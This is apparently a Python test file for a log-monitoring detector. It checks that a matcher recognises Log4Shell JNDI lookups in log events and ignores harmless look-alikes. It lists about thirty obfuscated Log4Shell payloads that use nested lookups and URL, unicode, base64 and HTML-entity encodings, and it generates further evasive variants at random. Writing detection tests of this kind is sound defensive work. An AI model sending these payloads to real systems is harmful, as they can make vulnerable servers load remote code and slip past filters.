"""Log4Shell: every disguise that is known of it, texts that look like it and are none, and any disguise at random."""

import base64
from collections.abc import Callable
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.event import Event
from tocsin.match.log4shell import KEPT, jndi_lookup, recognise
from tocsin.match.matcher import Matcher
from tocsin.rule import HARDCODED, Rule, RuleCase, RuleOptions, RuleQuery

HOSTILE = [
    "${jndi:ldap://x.test/a}",
    "${JNDI:LDAP://x.test/a}",
    "$${jndi:ldap://x.test/a}",
    "Mozilla/5.0 ${jndi:dns://x.test",  # a log may be cut
    "${${lower:j}ndi:ldap://x.test/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://x.test/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.test/a}",
    "${jnd${upper:ı}:ldap://x.test/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.test/a}",
    "${${:-j}ndi:ldap://x.test/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.test/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.test/a}",
    "${jn${env::-}di:ldap://x.test/a}",
    "${jnd${123%25ff:-${123%25ff:-i:}}ldap://x.test/a}",
    "${${a:${::--}j}ndi:ldap://x.test/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.test/a}",
    "${x:-${jndi:ldap://x.test/a}}",
    "${base64:JHtqbmRpOmxkYXA6Ly94LnRlc3QvYX0=}",
    "%24%7Bjndi:ldap://x.test/a%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252Fx.test%252Fa%257D",
    "$%7bjndi:ldap://x.test/a%7d",
    "%24{%6a%6e%64%69:ldap://x.test/a}",
    "%u0024%u007bjndi:ldap://x.test/a}",
    "\\u0024\\u007bjndi:ldap://x.test/a}",
    "${\\u006a\\u006e\\u0064\\u0069:ldap://x.test/a}",
    "\\x24\\x7bjndi:ldap://x.test/a}",
    "&#36;&#123;jndi:ldap://x.test/a}",
    "&dollar;&lbrace;jndi:ldap://x.test/a}",
    "%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fx.test%2Fa%7D",
    "%26%2336;{jndi:ldap://x.test/a}",
    "%5Cu0024%5Cu007bjndi:ldap://x.test/a}",
    "&#x25;24{jndi:ldap://x.test/a}",
]

HARMLESS = [
    "",
    "${jndi}",
    "${jndi:-none}",
    "jndi:ldap://x.test/a",
    "{jndi:ldap://x.test/a}",
    "$ {jndi:ldap://x.test/a}",
    "${java:version} ${env:HOME} ${hostName}",
    "${env:JNDI:-ldap}",
    "${a}jndi:ldap://x.test/a}",
    "${not jndi:ldap://x.test/a}",
    "%24%7Bamount%7D of 100%, topic=jndi:ldap",
    "price: $5 & more \\ 7",
    "${lower:X}jndi:ldap",
    "${base64:not base64}",
    "function () { return `${jndiName}` }",
]


def rule(query: str = "source:nginx", group_by: tuple[str, ...] = ("@network.client.ip",)) -> Rule:
    queries = (RuleQuery("a", query, group_by_fields=group_by),)
    return Rule("aaa-aaa-001", "Log4Shell", "", queries, (RuleCase("high", "a > 0"),), RuleOptions(HARDCODED))


OTHERS = [
    Rule(f"o{number}", "Other", "", (RuleQuery("a", f"source:{source} @never:there"),), (RuleCase("low", "a > 0"),))
    for number, source in enumerate(["nginx", "nginx", "sshd", "sshd"])
]
MATCHERS = [
    Matcher([rule(query, ()), *others])
    for query in ("*", "source:(nginx OR sshd)", "source:nginx OR @http.url:*")
    for others in ([], OTHERS)
]
"""Beside other rules the source is a gate, which decides the last query for one kind of events."""


@pytest.mark.parametrize("text", HOSTILE)
def test_it_is_recognised_in_disguise(text: str) -> None:
    found = jndi_lookup(text)
    assert found is not None and found.lower().startswith("${jndi:") and len(found) <= KEPT


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_is_left_alone(text: str) -> None:
    assert jndi_lookup(text) is None


WRAPS = ["{}", "${{lower:{}}}", "${{::-{}}}", "${{:-{}}}", "${{env:FOO:-{}}}", "${{date:'{}'}}", "${{a:${{::--}}{}}}"]
CODES = [
    lambda text: text,
    quote,
    lambda text: quote(quote(text)),
    lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    lambda text: quote("".join(f"&#{ord(letter)};" for letter in text)),
]


@given(
    st.lists(st.lists(st.sampled_from(WRAPS), max_size=3), min_size=5, max_size=5),
    st.sampled_from(CODES),
    st.text("${}:- %&ab", max_size=8).filter(lambda text: "${" not in text + "$"),
)
def test_any_disguise_is_seen_through(wraps: list[list[str]], encode: object, before: str) -> None:
    name = ""
    for letter, around in zip("jndi:", wraps, strict=True):
        for wrap in around:
            letter = wrap.format(letter)
        name += letter
    text = f"{before} ${{{name}ldap://x.test/a}}"
    found = jndi_lookup(encode(text))  # type: ignore[operator]
    assert found is not None and found.lower().startswith("${jndi:ldap")


SIGNS = ["$", "{", "%", "24", "25", "26", "7b", "5C", "5c", "u00", "u", "x", "\\", "0", "&", "#36;", "#123;", "dollar;",
    "lbrace;", "lcub;", "jndi:", "{jndi:", "${jndi:ldap", "K", "\ud800", "ß", " "]  # fmt: skip
PLACES = [
    lambda text: Event("e", 0, source="nginx", message=text, attributes={}),
    lambda text: Event("e", 0, source="nginx", message="", host=text, attributes={}),
    lambda text: Event("e", 0, source="nginx", message="", service=text, attributes={"http": {"url": 7}}),
    lambda text: Event("e", 0, source="sshd", message="", attributes={"http": {"url": {"path": [1, text]}}}),
]


@settings(deadline=None)
@given(st.lists(st.sampled_from(SIGNS), max_size=12).map("".join), st.sampled_from(PLACES), st.sampled_from(HOSTILE))
def test_the_matcher_passes_over_no_lookup(text: str, place: Callable[[str], Event], hostile: str) -> None:
    """What it looks for first stands in whatever holds a lookup."""
    for whole in (text, f"{text} {hostile}"):
        event = place(whole)
        held = jndi_lookup(whole) is not None
        assert bool(recognise(event)) == held
        assert [len(matcher.match(event)) for matcher in MATCHERS] == [held] * len(MATCHERS)


@given(st.text("${}:-nd i%24\\u7bB&#;lower", max_size=200))
def test_without_its_first_letter_there_is_none(text: str) -> None:
    assert jndi_lookup(text) is None


def test_depth_and_length_do_no_harm() -> None:
    deep = "${${lower:" * 20_000 + "j" + "}" * 20_000 + "ndi:ldap://x.test/a}"
    assert jndi_lookup(deep) is None  # the outer lookups have other names
    assert jndi_lookup("${::-" * 20_000 + "x" + "}" * 20_000 + "${jndi:ldap://x.test/a}") is not None
    assert jndi_lookup("${" + "a" * 1_000_000 + ":-${jndi:ldap://x.test/a}}") is not None
    assert jndi_lookup("\\" * 100_000 + "${" * 100_000 + "%25" * 100_000) is None


def test_a_match_says_where_it_stood() -> None:
    lookup = "${jndi:ldap://x.test/a}"
    header = {"http": {"headers": {"x-api-version": ["1", lookup]}}, "network": {"client": {"ip": "203.0.113.7"}}}
    event = Event("e1", 0, source="nginx", message="GET /", attributes=header)
    matcher = Matcher([rule()])
    (match,) = matcher.match(event)
    assert match.group == ("203.0.113.7",)
    assert orjson.loads(match.distinct or "") == {"attribute": "@http.headers.x-api-version", "lookup": lookup}
    assert (
        matcher.match(Event("e2", 0, source="nginx", message="GET /", attributes={"network": header["network"]})) == []
    )
    assert matcher.match(Event("e3", 0, source="sshd", message=lookup, attributes=header)) == []


def test_the_order_of_attributes_does_not_matter() -> None:
    texts = {"b": "${jndi:rmi://b}", "a": "${jndi:rmi://a}", "c": [f"${{jndi:rmi://{n}}}" for n in "zy"]}
    told = [
        recognise(Event("e", 0, message="", attributes=dict(order)))
        for order in (texts.items(), reversed(texts.items()))
    ]
    assert told[0] == told[1] == ['{"attribute":"@a","lookup":"${jndi:rmi://a}"}']
    (host,) = recognise(Event("e", 0, host=base64.b64decode("JHtqbmRpOnh9").decode(), message="", attributes={}))
    assert orjson.loads(host)["attribute"] == "host"
